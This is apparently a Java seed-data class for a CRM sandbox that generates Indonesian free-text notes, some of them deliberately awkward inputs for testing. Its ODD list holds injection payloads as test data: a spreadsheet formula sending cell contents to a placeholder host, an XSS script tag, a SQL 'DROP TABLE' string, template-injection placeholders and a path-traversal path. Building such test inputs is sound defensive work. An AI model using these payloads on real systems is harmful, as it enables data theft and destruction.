package dev.pindah.sandbox.qontak.seed;

import dev.pindah.sandbox.seed.Dice;
import java.util.List;

/**
 * What people write into free text: plain most of the time, and everything else that software trips
 * over.
 */
final class Texts {

  private static final List<String> PLAIN =
      List.of(
          "Minta penawaran ulang minggu depan",
          "Sudah ditelepon, tunggu kabar dari atasan",
          "Follow up setelah Lebaran",
          "Tertarik paket tahunan, bandingkan harga",
          "Survei lokasi hari Senin jam 10.00 WIB",
          "Jam buka gudang 09.00 WITA",
          "Pengiriman ke Jayapura, konfirmasi 14.00 WIT",
          "Nilai kira-kira Rp 10.000.000,00 belum termasuk PPN",
          "Call after the quarterly budget review",
          "Kontrak lama berakhir bulan ini");
  private static final List<String> ODD =
      List.of(
          "=HYPERLINK(\"http://contoh.example/?v=\"&A1,\"klik\")",
          "+62 jangan ditelepon sore",
          "-10% kalau bayar tunai",
          "@SUM(A1:A9)",
          "Terima kasih banyak \uD83D\uDE4F\uD83D\uDE0A\uD83C\uDDEE\uD83C\uDDE9",
          "<script>alert('x')</script> <b>tebal</b>",
          "'; DROP TABLE contacts; --",
          "{{contact.email}} ${7*7} #{nama}",
          "baris satu\nbaris dua\r\nbaris tiga\tdengan tab",
          "\u201CKutip miring\u201D \u2013 caf\u00e9 na\u00efve \u2026",
          "../../catatan/rahasia.txt",
          "  spasi di kedua ujung  ",
          "n/a");

  private Texts() {}

  static String plain(Dice dice, String salt, long index) {
    return dice.of(salt + "-plain", index, PLAIN);
  }

  /** One in twelve is odd, one in a hundred is longer than any form would show. */
  static String free(Dice dice, String salt, long index) {
    if (index % 100 == 11) {
      return (plain(dice, salt, index) + ". ").repeat(120).strip();
    }
    return index % 12 == 6 ? ODD.get((int) (index / 12 % ODD.size())) : plain(dice, salt, index);
  }

  /** As typed into the web editor: HTML with entities and blanks that do not break. */
  static String html(Dice dice, String salt, long index) {
    String text = free(dice, salt, index).replace("&", "&amp;").replace("<", "&lt;");
    return switch ((int) (index % 4)) {
      case 0 -> "<p>" + text + "&nbsp;<b>penting</b></p>";
      case 1 -> "<div>" + text + "<br><br>- butir satu<br>- butir dua</div>";
      case 2 -> "<p>" + text + "</p><ul><li>satu</li><li>dua</li></ul>";
      default -> "<p>" + text + " <a href=\"https://contoh.example/?a=1&amp;b=2\">tautan</a></p>";
    };
  }
}
